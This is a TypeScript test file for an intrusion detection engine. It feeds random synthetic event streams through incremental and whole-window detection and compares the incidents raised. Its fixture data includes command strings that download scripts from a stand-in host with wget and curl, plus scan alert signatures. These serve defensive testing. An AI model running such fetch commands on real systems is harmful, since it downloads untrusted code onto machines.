// What a stream of events raises must not depend on how the engine saves work. Random streams (a few sources mixing
// failed and successful logins, fetch commands, downloads, flows and scan alerts, arriving out of order, in random
// batches and passes) go through the engine as it is and through a reference engine whose rules read and are given
// their whole windows (no `historyFrom`: the sequence rules see an hour of history before every trigger, as they did
// before they said how far they need): the incidents (key, risk, severity, summary, span, model, evidence counts) and
// their linked events must be the same.
import { describe, expect, it } from "vitest";
import type { AnomalyModel } from "../anomaly/anomalyModel.ts";
import { detectionConfigSchema, type DetectionConfig } from "../config/detectorConfig.ts";
import { ingestFormats } from "../ingest/formats.ts";
import { ingestBatch } from "../ingest/ingestBatch.ts";
import { allRules } from "../rules/allRules.ts";
import type { DetectionRule } from "../rules/detectionRule.ts";
import { SqliteRepository } from "../store/sqliteRepository.ts";
import { DetectionEngine } from "./detectionEngine.ts";

/** A small deterministic generator, so a failure names a reproducible seed. */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
    return s / 2 ** 32;
  };
}

/** A model whose score follows the features (so which window it scores matters), above and below the threshold. */
const featureModel: AnomalyModel = {
  version: "feature-test-model",
  score: (rows) => Promise.resolve(rows.map((r) => (r.reduce((a, x, i) => a + x * (i + 1), 0) * 7919 % 1000) / 1000)),
};

const start = Date.parse("2024-05-15T00:00:00Z");

/** The stream: generic records of a few sources over about two hours (coarse times: ties are common), in arrival order. */
function stream(seed: number): Record<string, unknown>[] {
  const next = random(seed);
  const pick = <T,>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
  const sources = ["203.0.113.1", "203.0.113.2", "198.51.100.3"].slice(0, 1 + Math.floor(next() * 3));
  const n = 20 + Math.floor(next() * 140);
  const grid = pick([1, 20, 90]);
  const span = pick([60, 600, 7200]);
  return Array.from({ length: n }, (_, i) => {
    const base = { id: `s${seed}-${i}`, timestamp: new Date(start + Math.floor((next() * span) / grid) * grid * 1000).toISOString(), sourceIp: pick(sources) };
    const r = next();
    if (r < 0.35) return { ...base, type: "auth.failure", username: pick(["root", "admin", "pi", "oracle", "test", "ubuntu"]), ...(next() < 0.5 ? { password: pick(["a", "b"]) } : {}) };
    if (r < 0.45) return { ...base, type: "auth.success", username: "root" };
    if (r < 0.55) return { ...base, type: "command", command: pick(["uname -a", "wget http://198.51.100.7/x.sh", "curl -O 198.51.100.7/y"]) };
    if (r < 0.6) return { ...base, type: "file.download", url: "http://198.51.100.7/z" };
    if (r < 0.92) return { ...base, type: "network.flow", destIp: "10.0.0.7", destPort: 1 + Math.floor(next() * 30), bytesOut: Math.floor(next() * 400_000) };
    return { ...base, type: "network.alert", alert: { signature: pick(["ET SCAN nmap -sS", "ET POLICY curl"]) } };
  });
}

/** Small thresholds and windows, so detections, gaps between stretches and merges are all common. */
function configFor(seed: number): DetectionConfig {
  if (seed % 3 === 0) return detectionConfigSchema.parse({});
  return detectionConfigSchema.parse({
    bruteForce: { threshold: 3, windowSeconds: 120 },
    passwordSpray: { distinctUsers: 3, windowSeconds: 300 },
    portScan: { distinctPorts: 5, windowSeconds: 120 },
    exfiltration: { bytesOut: 1_000_000, windowSeconds: 300 },
    loginAfterFailures: { failures: 2, windowSeconds: [300, 900][seed % 2] },
    toolDownload: { windowSeconds: [600, 1800][seed % 2] },
  });
}

/** Runs the stream in the seed's batches and passes; returns every incident as compared, with its linked events. */
async function detect(records: Record<string, unknown>[], seed: number, rules: DetectionRule[]) {
  const next = random(seed * 31 + 7);
  const repository = new SqliteRepository(":memory:");
  await repository.migrate();
  const engine = new DetectionEngine({ config: configFor(seed), containment: "alert", anomalyModel: featureModel, rules, now: () => start });
  for (let i = 0; i < records.length;) {
    const size = 1 + Math.floor(next() * 30);
    const r = await ingestBatch({ repository }, ingestFormats.events!, JSON.stringify(records.slice(i, i + size)), "default", start);
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    i += size;
    // Sometimes several batches gather before a pass; a pass may take only part of the queue.
    if (next() < 0.6 || i >= records.length) {
      while (await repository.detectQueued(next() < 0.2 ? 5 : 100_000, (events, tx) => engine.detectIn(tx, events))) { /* until the queue is empty */ }
    }
  }
  const { items } = await repository.listIncidents("default", { limit: 1000, offset: 0 });
  const incidents = await Promise.all(items.map(async (x) => {
    const withEvents = await repository.getIncident("default", x.id);
    return {
      key: [x.sourceIp, x.actor, x.detectionKey].join(" "), riskScore: x.riskScore, severity: x.severity, summary: x.summary, firstSeen: x.firstSeen,
      lastSeen: x.lastSeen, status: x.status, evidence: x.evidence, detectedBy: x.detectedBy, techniques: x.techniques, events: withEvents!.events.map((e) => e.id),
    };
  }));
  await repository.close();
  return incidents.sort((a, b) => (a.key < b.key ? -1 : a.key > b.key ? 1 : a.firstSeen - b.firstSeen));
}

/** The rules with their whole windows: no `historyFrom`, so the engine reads and gives them everything. */
const wholeWindowRules: DetectionRule[] = allRules.map((r) => ({
  name: r.name, technique: r.technique, triggerKinds: r.triggerKinds, windowMs: (c) => r.windowMs(c), detect: (input) => r.detect(input),
}));

describe("detection passes against whole windows", () => {
  it("raise the same incidents, scores, summaries and evidence on 300 random streams", async () => {
    let incidents = 0;
    const rules = new Set<string>();
    for (let seed = 1; seed <= 300; seed++) {
      const records = stream(seed);
      const expected = await detect(records, seed, wholeWindowRules);
      expect({ seed, incidents: await detect(records, seed, allRules) }).toEqual({ seed, incidents: expected });
      incidents += expected.length;
      for (const i of expected) for (const r of i.detectedBy.rules) rules.add(r);
    }
    // Every rule that can fire on these streams did, and the streams raised plenty.
    expect([...rules].sort()).toEqual(["anomaly-model", "large-outbound-transfer", "login-after-failures", "password-spraying", "port-scan", "ssh-brute-force", "tool-download-after-login"]);
    expect(incidents).toBeGreaterThan(600);
  }, 120_000);
});
